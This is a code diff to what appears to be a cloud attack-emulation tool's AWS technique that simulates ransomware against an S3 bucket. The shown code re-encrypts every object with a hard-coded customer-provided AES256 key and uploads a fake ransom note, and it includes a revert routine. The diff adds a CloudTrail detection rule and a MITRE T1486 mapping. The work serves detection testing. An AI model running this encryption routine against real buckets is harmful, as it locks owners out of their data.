@@ -93,9 +93,17 @@ Sample CloudTrail event <code>CopyObject</code>, when a file is encrypted with a
 }
 ` + CodeBlock + `
 `,
-		Platform:           stratus.AWS,
-		IsIdempotent:       false,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Impact},
+		Impact:                stratus.ImpactDestructive,
+		Platform:              stratus.AWS,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Impact},
+		MitreAttackTechniques: []string{"T1486"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"s3.amazonaws.com"}, "eventName": {"CopyObject"}, "requestParameters.x-amz-server-side-encryption-customer-algorithm": {"AES256"}},
+			},
+			FalsePositives: []string{"Applications using customer-provided encryption keys (SSE-C)"},
+		},
 		FrameworkMappings: []stratus.FrameworkMappings{
 			{
 				Framework: stratus.ThreatTechniqueCatalogAWS,
@@ -109,35 +117,35 @@ Sample CloudTrail event <code>CopyObject</code>, when a file is encrypted with a
 			},
 		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert, // We need to decrypt files before cleaning up, otherwise Terraform can't delete them properly
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert, // We need to decrypt files before cleaning up, otherwise Terraform can't delete them properly
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	bucketName := params["bucket_name"]
 	s3Client := s3.NewFromConfig(providers.AWS().GetConnection())
 
 	log.Println("Simulating a ransomware attack on bucket " + bucketName)
 
-	if err := utils.DownloadAllObjects(s3Client, bucketName); err != nil {
+	if err := utils.DownloadAllObjects(ctx, s3Client, bucketName); err != nil {
 		return fmt.Errorf("failed to download bucket objects")
 	}
 
-	if err := encryptAllObjects(s3Client, bucketName); err != nil {
+	if err := encryptAllObjects(ctx, s3Client, bucketName); err != nil {
 		return fmt.Errorf("failed to encrypt objects in the bucket: %w", err)
 	}
 
 	log.Println("Uploading fake ransom note")
-	if err := utils.UploadFile(s3Client, bucketName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
+	if err := utils.UploadFile(ctx, s3Client, bucketName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
 		return fmt.Errorf("failed to upload ransom note to the bucket: %w", err)
 	}
 
 	return nil
 }
 
-func encryptAllObjects(s3Client *s3.Client, bucketName string) error {
-	objects, err := utils.ListAllObjectVersions(s3Client, bucketName)
+func encryptAllObjects(ctx context.Context, s3Client *s3.Client, bucketName string) error {
+	objects, err := utils.ListAllObjectVersions(ctx, s3Client, bucketName)
 	if err != nil {
 		return fmt.Errorf("unable to list bucket objects: %w", err)
 	}
@@ -145,7 +153,7 @@ func encryptAllObjects(s3Client *s3.Client, bucketName string) error {
 	log.Println("Encrypting all objects one by one with the secret AES256 encryption key '" + EncryptionKey + "'")
 
 	for _, object := range objects {
-		_, err := s3Client.CopyObject(context.Background(), &s3.CopyObjectInput{
+		_, err := s3Client.CopyObject(ctx, &s3.CopyObjectInput{
 			Bucket:               &bucketName,
 			Key:                  object.Key,
 			CopySource:           aws.String(bucketName + "/" + *object.Key),
@@ -161,20 +169,20 @@ func encryptAllObjects(s3Client *s3.Client, bucketName string) error {
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	bucketName := params["bucket_name"]
 	s3Client := s3.NewFromConfig(providers.AWS().GetConnection())
 
 	log.Println("Decrypting all files in the bucket")
-	if err := decryptAllObjects(s3Client, bucketName); err != nil {
+	if err := decryptAllObjects(ctx, s3Client, bucketName); err != nil {
 		return fmt.Errorf("failed to decrypt objects in the bucket: %w", err)
 	}
 
 	return nil
 }
 
-func decryptAllObjects(s3Client *s3.Client, bucketName string) error {
-	objects, err := utils.ListAllObjectVersions(s3Client, bucketName)
+func decryptAllObjects(ctx context.Context, s3Client *s3.Client, bucketName string) error {
+	objects, err := utils.ListAllObjectVersions(ctx, s3Client, bucketName)
 	if err != nil {
 		return fmt.Errorf("unable to list bucket objects: %w", err)
 	}
@@ -186,7 +194,7 @@ func decryptAllObjects(s3Client *s3.Client, bucketName string) error {
 			// ignore the fake ransom note
 			continue
 		}
-		result, err := s3Client.GetObject(context.Background(), &s3.GetObjectInput{
+		result, err := s3Client.GetObject(ctx, &s3.GetObjectInput{
 			Bucket:               &bucketName,
 			Key:                  object.Key,
 			SSECustomerKey:       aws.String(Base64EncodedEncryptionKey),
@@ -197,7 +205,7 @@ func decryptAllObjects(s3Client *s3.Client, bucketName string) error {
 			return fmt.Errorf("unable to decrypt file %s: %w", *object.Key, err)
 		}
 
-		_, err = s3Client.DeleteObject(context.Background(), &s3.DeleteObjectInput{
+		_, err = s3Client.DeleteObject(ctx, &s3.DeleteObjectInput{
 			Bucket: &bucketName,
 			Key:    object.Key,
 		})
@@ -206,7 +214,7 @@ func decryptAllObjects(s3Client *s3.Client, bucketName string) error {
 		}
 		fileContent, _ := io.ReadAll(result.Body)
 
-		err = utils.UploadFile(s3Client, bucketName, *object.Key, strings.NewReader(string(fileContent)))
+		err = utils.UploadFile(ctx, s3Client, bucketName, *object.Key, strings.NewReader(string(fileContent)))
 		if err != nil {
 			return fmt.Errorf("unable to re-upload decrypted file %s: %w", *object.Key, err)
 		}